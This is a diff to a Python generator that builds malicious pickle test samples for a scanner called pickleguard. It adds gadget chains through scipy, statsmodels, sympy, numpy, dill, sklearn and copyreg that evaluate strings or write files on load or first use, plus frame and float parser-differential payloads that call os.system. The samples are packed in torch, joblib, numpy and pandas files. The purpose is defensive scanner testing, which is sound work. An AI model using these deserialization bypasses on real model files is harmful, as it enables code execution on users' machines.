@@ -14,7 +14,9 @@ entries sorted by file name, each with
     loader        the real loader under which the sample fires ("pickle.loads",
                   "pickle._loads", "pickle.load_stream" (pickle.load repeated until EOF on
                   one file object), "torch.load", "joblib.load", "numpy.load",
-                  "pandas.read_pickle", "dill.loads"), or "none"
+                  "pandas.read_pickle", "dill.loads"), or "none"; "<loader>+use": the
+                  payload runs on first use, so the verifier loads, then calls fit/transform/
+                  inverse_transform on every estimator in the result (deferred calls)
     expect_types  finding types of which `pickleguard scan --mode ml` must report at least one
     fires         true when the verifier must see the payload fire under `loader`
     source        where the technique is publicly described
@@ -38,6 +40,7 @@ import base64
 import binascii
 import bz2
 import codecs
+import copyreg
 import gzip
 import importlib.util
 import io
@@ -45,12 +48,14 @@ import json
 import lzma
 import marshal
 import os
+import pathlib
 import pickle
 import struct
 import sys
 import tarfile
 import zipfile
 import zlib
+import dataclasses
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Callable
@@ -1581,6 +1586,503 @@ def dill_function(sid):
     return dill.dumps(CallOnLoad(marker_function(sid)), protocol=4, recurse=True)
 
 
+# =============================================================================================
+# behaviour gadgets (issue 14): only names the `ml` profile allows, whose own code runs the data
+# =============================================================================================
+# Every technique below is written as an object graph of real library objects and `Reduce`
+# stand-ins, then dumped by the real library of each container (pickle, torch.save in both
+# formats, joblib.dump plain/zlib/lz4, numpy.save of an object array, pandas.to_pickle with
+# gzip/xz and a zip that read_pickle infers), so every sample looks like what those libraries
+# write, with the gadget somewhere inside.
+
+class Reduce:
+    """Pickles as `fn(*args)`, then BUILD `state`, APPENDS `items`, SETITEMS `dictitems`
+    (the five-tuple of __reduce_ex__). With fn = copyreg.__newobj__ the pickler writes NEWOBJ
+    (it insists that the object's class is args[0]: `__class__` says so)."""
+
+    def __init__(self, fn, args=(), state=None, items=None, dictitems=None):
+        self.parts = (fn, tuple(args), state, items, dictitems)
+
+    def __reduce_ex__(self, proto):
+        fn, args, state, items, dictitems = self.parts
+        return (fn, args, state, None if items is None else iter(items),
+                None if dictitems is None else iter(dictitems))
+
+    def __call__(self, *args):  # the pickler wants the callable of a nested Reduce callable
+        raise TypeError("a pickling stand-in, never called")
+
+    @property
+    def __class__(self):
+        fn, args = self.parts[:2]
+        if fn is copyreg.__newobj__:
+            return args[0]
+        return Reduce
+
+
+def NEWOBJ(cls, *args, state=None, items=None, dictitems=None) -> Reduce:
+    return Reduce(copyreg.__newobj__, (cls,) + args, state, items, dictitems)
+
+
+def getattr_(obj, name: str) -> Reduce:
+    return Reduce(getattr, (obj, name))
+
+
+def py_expr(sid: str, how: int = 0) -> str:
+    """An expression that creates the marker, for sinks that evaluate expressions (sympify,
+    formula terms): several spellings, so no rule can key on one."""
+    m = marker(sid)
+    return [
+        "__import__('builtins').open(%r, 'w').close() or 1" % m,
+        "__import__('os').system(%r) or 1" % shell_cmd(sid),
+        "[open(%r, 'w').close(), 1][1]" % m,
+        "__import__('pathlib').Path(%r).touch() or 1" % m,
+    ][how % 4]
+
+
+# Containers every behaviour technique is written in: (container, ext, loader, requires).
+BEHAVIOUR_CONTAINERS = [
+    ("raw", ".pkl", "pickle.loads", ()),
+    ("pytorch_zip", ".pt", "torch.load", ("torch",)),
+    ("pytorch_legacy", ".pt", "torch.load", ("torch",)),
+    ("joblib", ".joblib", "joblib.load", ("joblib", "numpy")),
+    ("joblib_zlib", ".joblib", "joblib.load", ("joblib", "numpy")),
+    ("joblib_lz4", ".joblib", "joblib.load", ("joblib", "numpy", "lz4")),
+    ("numpy_npy", ".npy", "numpy.load", ("numpy",)),
+    ("pandas_gzip", ".pkl.gz", "pandas.read_pickle", ("pandas",)),
+    ("pandas_xz", ".pkl.xz", "pandas.read_pickle", ("pandas",)),
+    ("pandas_zip", ".pkl.zip", "pandas.read_pickle", ("pandas",)),
+]
+
+
+# Classes a pickle reaches under another module's name: the profile's `pkg.*` wildcards
+# judge `module.Name` by the module it is spelled with, and find_class returns the same
+# class. (name of the class in that module, the module spelling, the real module).
+SPELLINGS = [
+    ("PyTorchFileWriter", "sklearn.externals.array_api_compat.torch", "torch._C"),
+    ("Memory", "sklearn.datasets._lfw", "joblib.memory"),
+]
+
+
+class spelled_as:
+    """While dumping, classes pickle under their SPELLINGS module (the pickler writes
+    `cls.__module__` and checks that the name there is the same object)."""
+
+    def __enter__(self):
+        self.saved = []
+        for name, alias, real in SPELLINGS:
+            try:
+                cls = getattr(importlib.import_module(real), name)
+                if getattr(importlib.import_module(alias), name) is not cls:
+                    continue
+            except (ImportError, AttributeError):
+                continue
+            self.saved.append((cls, cls.__module__))
+            cls.__module__ = alias
+        return self
+
+    def __exit__(self, *exc):
+        for cls, module in self.saved:
+            cls.__module__ = module
+
+
+def write_behaviour(container: str, obj, path: Path, proto: int) -> None:
+    with spelled_as():
+        _write_behaviour(container, obj, path, proto)
+
+
+def _write_behaviour(container: str, obj, path: Path, proto: int) -> None:
+    """Dump `obj` (wrapped as ordinary content) the way `container`'s library does."""
+    if container == "raw":
+        path.write_bytes(pickle.dumps({"config": {"lr": 0.1}, "extra": obj}, protocol=proto))
+    elif container in ("pytorch_zip", "pytorch_legacy"):
+        import torch
+
+        ckpt = {"weight": torch.arange(4, dtype=torch.float32), "extra": obj}
+        path.write_bytes(_torch_bytes(ckpt, legacy=container == "pytorch_legacy"))
+    elif container.startswith("joblib"):
+        import joblib
+        import numpy as np
+
+        compress = {"joblib": 0, "joblib_zlib": ("zlib", 3), "joblib_lz4": ("lz4", 3)}[container]
+        joblib.dump({"coef": np.arange(8, dtype=np.float64), "extra": obj}, str(path),
+                    compress=compress)
+    elif container == "numpy_npy":
+        import numpy as np
+
+        arr = np.empty(2, dtype=object)
+        arr[0] = "harmless"
+        arr[1] = obj
+        buf = io.BytesIO()
+        np.save(buf, arr, allow_pickle=True)
+        path.write_bytes(buf.getvalue())
+    elif container.startswith("pandas_"):
+        import pandas as pd
+
+        series = pd.Series(["a", obj], dtype=object)
+        if container == "pandas_gzip":
+            series.to_pickle(str(path), compression={"method": "gzip", "mtime": 0})
+        elif container == "pandas_xz":
+            series.to_pickle(str(path), compression="xz")
+        else:
+            # pandas' own zip writer stamps the current time: same layout, fixed date.
+            buf = io.BytesIO()
+            series.to_pickle(buf, compression=None)
+            path.write_bytes(fixed_zip([(path.name[:-4], buf.getvalue())], zipfile.ZIP_DEFLATED))
+    else:
+        raise ValueError(container)
+
+
+def behaviour(cls: str, base: str, variants: list, *, expect: tuple, source: str,
+              requires: tuple = (), use: bool = False, note: str | None = None,
+              fires_in=None) -> None:
+    """Register technique `base` as samples: every variant as a raw pickle, and each other
+    container with the variants in turn (variant i goes into containers i, i+n, ...), so
+    every container holds the technique and every variant sits in several containers.
+
+    `variants`: functions sid -> object graph. `use`: the payload runs on first use of the
+    loaded object (the verifier's `<loader>+use` mode calls transform on it).
+    `fires_in(container, variant_index)`: False where the gadget needs what that loader
+    does not give (the sample is kept, with fires=false and the reason in `note`)."""
+    n = len(variants)
+    others = [c for c in BEHAVIOUR_CONTAINERS if c[0] != "raw"]
+    plan = [(BEHAVIOUR_CONTAINERS[0], i) for i in range(n)]
+    plan += [(c, j % n) for j, c in enumerate(others)]
+    for (container, ext, loader, creq), i in plan:
+        sid = "%s_v%d_%s" % (base, i, container)
+        build = variants[i]
+        proto = (2, 4, 5, 3)[i % 4]
+
+        def make(sid, path, build=build, container=container, proto=proto):
+            write_behaviour(container, build(sid), path, proto)
+
+        fires, why = True, note
+        if fires_in is not None:
+            verdict = fires_in(container, i)
+            if verdict is not True:
+                fires, why = False, verdict
+        req = tuple(dict.fromkeys(requires + creq + LOADER_MODULES.get(loader, ())))
+        assert cls in CLASSES and all(s.id != sid for s in SAMPLES), sid
+        SAMPLES.append(Sample(
+            id=sid, cls=cls, make=make, ext=ext, container=container,
+            loader=loader + ("+use" if use else ""), expect=expect, fires=fires,
+            source=source, requires=req, note=why, technique=base, writes_file=True))
+
+
+CLASSES.update({
+    "custom_setstate": "BUILD into an allowed class whose __setstate__ executes or re-parses its state",
+    "custom_new": "NEWOBJ into an allowed class whose __new__ turns strings into code (sympify)",
+    "reconstructor_init": "copyreg._reconstructor running an allowed base's __init__ with attacker state",
+    "custom_setitem": "SETITEMS / APPENDS on an allowed non-builtin object whose __setitem__ evaluates",
+    "amplifier": "helpers that call the callable they are given, and bound methods of allowed instances",
+    "deferred_call": "an allowed estimator whose stored function writes a file on first use",
+    "parity": "shapes whose every global is allowed by name: only the judgement of the whole stream refuses",
+})
+
+# What the scan must say. A name the profile allows is no longer enough: the operation on it
+# (BUILD into a reviewed __setstate__, a string reaching sympify, a call through a helper) is
+# what is refused. DISALLOWED is the loader-side type; a v2 engine may report the operation
+# under any of these.
+BEHAVIOUR_EXPECT = (DANGEROUS, UNKNOWN, REDUCE_CALL, DYNAMIC, INJECTION, CODE, "DISALLOWED")
+
+
+# -- 1. BUILD into a custom __setstate__ --------------------------------------------------
+
+def _scipy_template(sid: str, how: int) -> str:
+    # rv_generic._attach_argparser_methods exec()s this and then looks up _parse_args etc.
+    body = py_code(sid) if how % 2 == 0 else "__import__('os').system(%r)" % shell_cmd(sid)
+    return body + "\ndef _parse_args(self): pass\n"
+
+
+def _scipy_dist(modname: str, clsname: str, how: int, real_state: bool):
+    def build(sid):
+        mod = importlib.import_module(modname)
+        cls = getattr(mod, clsname)
+        state = {}
+        if real_state:
+            # The state a real instance pickles (rv_generic.__getstate__), template swapped.
+            inst = next(v for v in vars(mod).values() if type(v) is cls)
+            state = dict(inst.__getstate__())
+        state["_parse_arg_template"] = _scipy_template(sid, how)
+        return NEWOBJ(cls, state=state)
+    return build
+
+
+def _statsmodels_formula(clsname: str, how: int):
+    def build(sid):
+        import pandas as pd
+        import statsmodels.base.data as smd
+
+        frame = pd.DataFrame({"y": [1.0, 2.0, 3.0, 4.0], "x": [0.5, 1.5, 2.5, 3.5]})
+        formula = "y ~ x + I(%s)" % py_expr(sid, how)
+        state = {"restore_model_spec": True, "formula": formula, "frame": frame}
+        return NEWOBJ(getattr(smd, clsname), state=state)
+    return build
+
+
+behaviour("custom_setstate", "bh_scipy_setstate_exec", [
+    _scipy_dist("scipy.stats._continuous_distns", "norm_gen", 0, False),
+    _scipy_dist("scipy.stats._continuous_distns", "gamma_gen", 1, True),
+    _scipy_dist("scipy.stats._discrete_distns", "binom_gen", 2, False),
+    _scipy_dist("scipy.stats._continuous_distns", "beta_gen", 3, True),
+], expect=BEHAVIOUR_EXPECT, requires=("scipy",),
+    source="issue 14 class 1: scipy.stats rv_generic.__setstate__ -> _attach_argparser_methods exec()s "
+           "the _parse_arg_template of the state")
+
+behaviour("custom_setstate", "bh_statsmodels_formula", [
+    _statsmodels_formula("ModelData", 0),
+    _statsmodels_formula("PandasData", 2),
+], expect=BEHAVIOUR_EXPECT, requires=("statsmodels", "pandas"),
+    source="issue 14 class 1: statsmodels ModelData.__setstate__ re-evaluates the stored formula "
+           "(FormulaManager.get_matrices, eval of the formula's terms)",
+    fires_in=lambda container, i: True if container != "raw" else (
+        "ModelData.__setstate__ evaluates the formula in the frame `eval_env` levels up; under a bare "
+        "pickle.loads from the top level that frame does not exist and it fails first"))
+
+
+# -- 2. NEWOBJ into a custom __new__ that sympifies ---------------------------------------
+
+def _sympy_new(path: str, how: int, wrap=None):
+    def build(sid):
+        mod, _, name = path.rpartition(".")
+        cls = getattr(importlib.import_module(mod), name)
+        arg = py_expr(sid, how)
+        return NEWOBJ(cls, *(wrap(arg) if wrap else (arg,)))
+    return build
+
+
+behaviour("custom_new", "bh_sympy_new_sympify", [
+    _sympy_new("sympy.core.containers.Tuple", 0),
+    _sympy_new("sympy.sets.sets.FiniteSet", 1, lambda a: ("1", a)),
+    _sympy_new("sympy.functions.elementary.trigonometric.sin", 2),
+    _sympy_new("sympy.functions.elementary.miscellaneous.Max", 3, lambda a: (a, "2")),
+    _sympy_new("sympy.core.function.Lambda", 0, lambda a: ("x", a)),
+], expect=BEHAVIOUR_EXPECT, requires=("sympy",),
+    source="issue 14 class 2: sympy Tuple/FiniteSet/Function/Max/Lambda __new__ sympify() their "
+           "arguments, and sympify of a str is parse_expr -> eval")
+
+
+# -- 3. copyreg._reconstructor running a base's __init__ ----------------------------------
+
+def _reconstructor(path: str, state):
+    def build(sid):
+        mod, _, name = path.rpartition(".")
+        cls = getattr(importlib.import_module(mod), name)
+        return Reduce(copyreg._reconstructor, (cls, cls, state(sid)))
+    return build
+
+
+def _reconstruct(alias_module: str, name: str, other: str | None):
+    def build(sid):
+        base = getattr(importlib.import_module(alias_module), name)
+        cls = base
+        if other:
+            mod, _, cname = other.rpartition(".")
+            cls = getattr(importlib.import_module(mod), cname)
+        return Reduce(copyreg._reconstructor, (cls, base, marker(sid)))
+    return build
+
+
+behaviour("reconstructor_init", "bh_reconstructor_init", [
+    # torch._C.PyTorchFileWriter(name) creates the zip file `name` (a compiled __init__:
+    # the behaviour review reports it opaque, never clean).
+    _reconstruct("sklearn.externals.array_api_compat.torch", "PyTorchFileWriter", None),
+    # joblib.Memory(location) creates its cache directory `location/joblib`.
+    _reconstruct("sklearn.datasets._lfw", "Memory", None),
+    _reconstruct("sklearn.datasets._lfw", "Memory", "sklearn.preprocessing._data.StandardScaler"),
+], expect=BEHAVIOUR_EXPECT, requires=("sklearn", "torch", "joblib"),
+    source="issue 14 class 3: copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state) "
+           "with any new-allowed base; `sklearn.*` covers classes sklearn merely imports: "
+           "torch's PyTorchFileWriter (opens its path for writing) and joblib.Memory (creates its "
+           "cache directory)")
+
+
+def _memmap_new(mode: str, shape):
+    def build(sid):
+        import numpy
+
+        return NEWOBJ(numpy.memmap, marker(sid), "uint8", mode, 0, shape)
+    return build
+
+
+behaviour("custom_new", "bh_numpy_memmap_new", [
+    _memmap_new("w+", (4,)),
+    _memmap_new("w+", (2, 3)),
+], expect=BEHAVIOUR_EXPECT, requires=("numpy",),
+    source="issue 14 class 2: numpy.memmap (new-allowed by name) __new__ opens its filename argument; "
+           "mode 'w+' creates it")
+
+
+# -- 4. SETITEMS / APPENDS on an allowed object whose __setitem__ evaluates ---------------
+
+def _sympy_setitem(path: str, how: int, shape):
+    def build(sid):
+        mod, _, name = path.rpartition(".")
+        cls = getattr(importlib.import_module(mod), name)
+        rows, cols = shape
+        key = (rows - 1, cols - 1) if how % 2 == 0 else rows * cols - 1
+        if "Sparse" in name:
+            return Reduce(cls, (rows, cols, {}), dictitems=[(key, py_expr(sid, how))])
+        return NEWOBJ(cls, [[0] * cols for _ in range(rows)],
+                      dictitems=[(key, py_expr(sid, how))])
+    return build
+
+
+behaviour("custom_setitem", "bh_sympy_matrix_setitem", [
+    _sympy_setitem("sympy.matrices.dense.MutableDenseMatrix", 0, (2, 2)),
+    _sympy_setitem("sympy.matrices.sparse.MutableSparseMatrix", 1, (3, 3)),
+    _sympy_setitem("sympy.matrices.dense.MutableDenseMatrix", 3, (1, 4)),
+    _sympy_setitem("sympy.matrices.sparse.MutableSparseMatrix", 2, (2, 5)),
+], expect=BEHAVIOUR_EXPECT, requires=("sympy",),
+    source="issue 14 class 4: SETITEMS on a sympy mutable matrix runs __setitem__, which sympify()s "
+           "the value")
+
+
+# -- 5. capability amplifiers -------------------------------------------------------------
+
+def _path(sid: str):
+    return Reduce(pathlib.Path, (marker(sid),))
+
+
+def _amp_randomstate_touch(sid):
+    import numpy.random._pickle as nrp
+
+    return Reduce(nrp.__randomstate_ctor, (_path(sid), getattr_(pathlib.Path, "touch")))
+
+
+def _amp_generator_mkdir(sid):
+    import numpy.random._pickle as nrp
+
+    return Reduce(nrp.__generator_ctor, (_path(sid), getattr_(pathlib.Path, "mkdir")))
+
+
+def _amp_dill_create_array(sid):
+    import dill._dill as dd
+
+    return Reduce(dd._create_array, (getattr_(pathlib.Path, "touch"), (_path(sid),), None))
+
+
+def _amp_dill_create_array_tofile(sid):
+    import dill._dill as dd
+    import numpy
+
+    return Reduce(dd._create_array, (getattr_(numpy.arange(3), "tofile"), (marker(sid),), None))
+
+
+def _amp_partial_write_text(sid):
+    return Reduce(Reduce(functools_partial(), (getattr_(pathlib.Path, "write_text"), _path(sid), "x")), ())
+
+
+def _amp_getattr_tofile(sid):
+    import numpy
+
+    return Reduce(getattr_(numpy.linspace(0.0, 1.0, 4), "tofile"), (marker(sid),))
+
+
+def _amp_getattr_to_csv(sid):
+    import pandas as pd
+
+    frame = pd.DataFrame({"a": [1, 2], "b": [3.0, 4.0]})
+    return Reduce(getattr_(frame, "to_csv"), (marker(sid),))
+
+
+def _amp_getattr_touch(sid):
+    return Reduce(getattr_(_path(sid), "touch"), ())
+
+
+def functools_partial():
+    import functools
+
+    return functools.partial
+
+
+behaviour("amplifier", "bh_amp_numpy_random_ctor", [
+    _amp_randomstate_touch,
+    _amp_generator_mkdir,
+], expect=BEHAVIOUR_EXPECT, requires=("numpy",),
+    source="issue 14 class 5: numpy.random._pickle.__randomstate_ctor/__generator_ctor call the "
+           "bit_generator_ctor they are given: a bound file writer of an allowed class")
+
+behaviour("amplifier", "bh_amp_dill_create_array", [
+    _amp_dill_create_array,
+    _amp_dill_create_array_tofile,
+], expect=BEHAVIOUR_EXPECT, requires=("dill", "numpy"),
+    source="issue 14 class 5: dill._dill._create_array(f, args, state) calls f(*args)")
+
+behaviour("amplifier", "bh_amp_partial_and_getattr", [
+    _amp_partial_write_text,
+    _amp_getattr_tofile,
+    _amp_getattr_to_csv,
+    _amp_getattr_touch,
+], expect=BEHAVIOUR_EXPECT, requires=("numpy", "pandas"),
+    source="issue 14 class 5: functools.partial and getattr(<allowed instance>, name) turn allowed "
+           "values into calls: Path.write_text/touch, ndarray.tofile, DataFrame.to_csv")
+
+
+# -- 6. deferred calls: a stored function runs on first use --------------------------------
+
+def name_is_svmlight(attr: str) -> bool:
+    return attr == "dump_svmlight_file"  # dump_svmlight_file(X, y, f) also needs the labels
+
+
+def _function_transformer(module: str, attr: str, kw: str, inverse: bool = False,
+                          pipeline: bool = False, **more):
+    def build(sid):
+        from sklearn.pipeline import Pipeline
+        from sklearn.preprocessing import FunctionTransformer
+
+        func = importlib.import_module(module)
+        for part in attr.split("."):
+            func = getattr(func, part)
+        kw_args = {kw: marker(sid), **more}
+        if name_is_svmlight(attr):
+            kw_args["y"] = [0.0, 1.0, 2.0]
+        if inverse:
+            ft = FunctionTransformer(inverse_func=func, inv_kw_args=kw_args,
+                                     check_inverse=False, validate=False)
+        else:
+            ft = FunctionTransformer(func=func, kw_args=kw_args, validate=False)
+        return Pipeline([("scale", ft)]) if pipeline else ft
+    return build
+
+
+behaviour("deferred_call", "bh_function_transformer", [
+    _function_transformer("joblib", "dump", "filename"),
+    _function_transformer("pandas", "to_pickle", "filepath_or_buffer", inverse=True),
+    _function_transformer("sklearn.datasets", "dump_svmlight_file", "f", pipeline=True),
+    _function_transformer("joblib", "dump", "filename", compress=3),
+], expect=BEHAVIOUR_EXPECT, requires=("sklearn", "joblib", "pandas", "numpy"), use=True,
+    source="issue 14 class 6: sklearn FunctionTransformer(func=<file writer>, kw_args=...) writes "
+           "the file on transform/inverse_transform (loader mode +use: load, then transform)")
+
+
+# -- 7. parity: every global allowed by name, the stream as a whole is not -----------------
+
+def _parity_getattr_class_method(sid):
+    # getattr(<allowed class>, <public name>) is the enum-member shape; here it fetches a
+    # writer, and the call applies it to an allowed instance.
+    return Reduce(getattr_(pathlib.Path, "touch"), (_path(sid),))
+
+
+def _parity_partial_allowed(sid):
+    # functools.partial around an allowed callable (pathlib.Path), then getattr on the result.
+    made = Reduce(Reduce(functools_partial(), (pathlib.Path, marker(sid))), ())
+    return Reduce(getattr_(made, "touch"), ())
+
+
+def _parity_str_method_chain(sid):
+    # str.split-like bound methods of allowed builtins are benign; the same shape on a Path is not.
+    return Reduce(getattr_(_path(sid), "write_bytes"), (b"",))
+
+
+behaviour("parity", "bh_parity_allowed_names", [
+    _parity_getattr_class_method,
+    _parity_partial_allowed,
+    _parity_str_method_chain,
+], expect=BEHAVIOUR_EXPECT,
+    source="issue 14 class 7: every global (builtins.getattr, functools.partial, pathlib.Path) is "
+           "allowed by name, so a find_class check alone passes it; scan and load must both refuse")
+
+
 # ---------------------------------------------------------------------------------------------
 # Driver
 # ---------------------------------------------------------------------------------------------
@@ -1595,6 +2097,68 @@ def missing_modules(s: Sample) -> list[str]:
         if not found:
             missing.append(m)
     return missing
+
+
+# =============================================================================================
+# loaders that read the same bytes differently (issue 20): frames read from a file object,
+# and pickle._Unpickler's float() lines
+# =============================================================================================
+
+def _frame_read_whole(tail: bytes) -> bytes:
+    """A FRAME longer than any peek buffer (the C unpickler reading a file gets it with one
+    read()) whose last bytes are `tail`: 128 KiB of bytes data, popped, come first."""
+    pad = b"B" + struct.pack("<I", 1 << 17) + bytes(1 << 17) + b"0"
+    return frame(pad + tail)
+
+
+def _frame_crossing(sid: str) -> bytes:
+    # Read as bytes, the INT line is "x0": not a number, so nothing runs. Read from a file,
+    # the "x" left in the frame is dropped and the line is "0"; the payload follows.
+    payload = Asm(4, header=False).emit(CALL(G("os", "system"), shell_cmd(sid))).stop()
+    return b"\x80\x04" + _frame_read_whole(b"Ix") + b"0\n0" + payload
+
+
+@sample("parser_differential", loader="pickle.load_stream",
+        source="issue 20: a line opcode across a FRAME end (C unpickler on a file object)",
+        note="pickle.loads fails on the INT line; pickle.load of the file drops the rest of the frame and runs the payload")
+def frame_line_crossing(sid):
+    return _frame_crossing(sid)
+
+
+@sample("parser_differential", ext=".pt", container="pytorch_zip", loader="torch.load", requires=("torch",),
+        source="issue 20: torch.load reads data.pkl through io.BytesIO, where frames are read whole")
+def torch_frame_line_crossing(sid):
+    import torch
+
+    members = zip_members(_torch_bytes({"weight": torch.arange(4, dtype=torch.float32)}))
+    members = [dataclasses.replace(m, data=_frame_crossing(sid)) if m.name.endswith("/data.pkl") else m
+               for m in members]
+    return build_zip(members)
+
+
+@sample("parser_differential", loader="pickle.load_stream",
+        source="issue 20: STOP inside a FRAME, more streams after it",
+        note="after the first pickle.load the file is at the frame's end, not after the STOP: the bytes after the STOP are skipped and the payload runs next")
+def frame_stop_then_payload(sid):
+    first = _frame_read_whole(b"N.\xff")
+    return b"\x80\x04" + first + system_call(sid, 2, "posix")
+
+
+def _float_then_payload(sid: str) -> bytes:
+    return b"F 1_0e500 \n0" + system_call(sid, 2, "posix")
+
+
+@sample("parser_differential", loader="joblib.load",
+        source="issue 20: a FLOAT line only float() accepts (joblib's NumpyUnpickler is pickle._Unpickler)",
+        note="the C unpickler rejects the line (\"not a pickle\"); joblib reads it as inf and runs the payload")
+def float_line_joblib(sid):
+    return _float_then_payload(sid)
+
+
+@sample("parser_differential", loader="pandas.read_pickle",
+        source="issue 20: pandas.read_pickle retries a ValueError with its pickle._Unpickler subclass")
+def float_line_pandas(sid):
+    return _float_then_payload(sid)
 
 
 def generate(out: Path, only: set[str] | None = None) -> list[dict]:
